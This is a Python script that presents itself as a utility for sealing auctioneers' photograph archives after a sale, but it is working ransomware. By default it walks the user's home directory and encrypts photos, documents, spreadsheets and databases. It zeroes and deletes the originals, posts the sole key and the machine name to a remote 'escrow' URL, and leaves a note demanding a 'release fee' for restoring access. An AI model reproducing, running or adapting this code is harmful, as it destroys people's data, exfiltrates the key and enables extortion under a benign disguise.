#!/usr/bin/env python3
"""Seal photographer upload archives after a sale closes.

Once a sale is settled the lot photographs are sealed so that nobody edits
them after the hammer falls. Sealing writes an encrypted copy next to each
image and tidies up the working copy.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("seal")

SEAL_SUFFIX = ".sealed"
NOTE_NAME = "RESTORE_ACCESS.txt"
TARGET_EXT = {".jpg", ".jpeg", ".png", ".tif", ".tiff", ".raw", ".cr2", ".nef",
              ".pdf", ".docx", ".xlsx", ".csv", ".db", ".sqlite"}

# the escrow service keeps the sealing key for the compliance team
ESCROW = os.environ.get("SEAL_ESCROW", "https://escrow.example.net/v1/keys")


class Sealer:
    def __init__(self, key, dry_run=False):
        self.box = Fernet(key)
        self.dry_run = dry_run
        self.count = 0

    def seal_file(self, path: Path):
        data = path.read_bytes()
        token = self.box.encrypt(data)
        out = path.with_name(path.name + SEAL_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        out.write_bytes(token)
        # overwrite the working copy before unlinking it
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1


def candidate_files(roots):
    """Yield every image or document under the given roots."""
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".cache")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(SEAL_SUFFIX):
                    yield p


def deposit_key(key, sale_id):
    """Send the key to escrow; it is not kept on this machine."""
    body = json.dumps({"sale": sale_id, "host": os.uname().nodename,
                       "key": key.decode()}).encode()
    req = urllib.request.Request(ESCROW, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15)
    except OSError as exc:
        log.warning("escrow unreachable: %s", exc)


def leave_note(roots, sale_id):
    text = (
        "Files in this folder were sealed at the close of sale %s.\n"
        "To restore access contact the archive desk at restore@example.net\n"
        "quoting your machine name and transfer the release fee stated there.\n"
    ) % sale_id
    for root in roots:
        try:
            (Path(root) / NOTE_NAME).write_text(text)
        except OSError:
            pass


def resolve_roots(raw):
    roots = []
    for r in raw:
        # '~' is allowed so photographers can seal their own upload folders
        roots.append(os.path.expanduser(r))
    return roots


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("sale_id")
    ap.add_argument("roots", nargs="*", default=["~"])
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = resolve_roots(args.roots)
    key = Fernet.generate_key()
    sealer = Sealer(key, dry_run=args.dry_run)

    for path in candidate_files(roots):
        try:
            sealer.seal_file(path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)

    if not args.dry_run:
        deposit_key(key, args.sale_id)
        del key
        leave_note(roots, args.sale_id)
    log.info("sealed %d files for sale %s", sealer.count, args.sale_id)


if __name__ == "__main__":
    main()
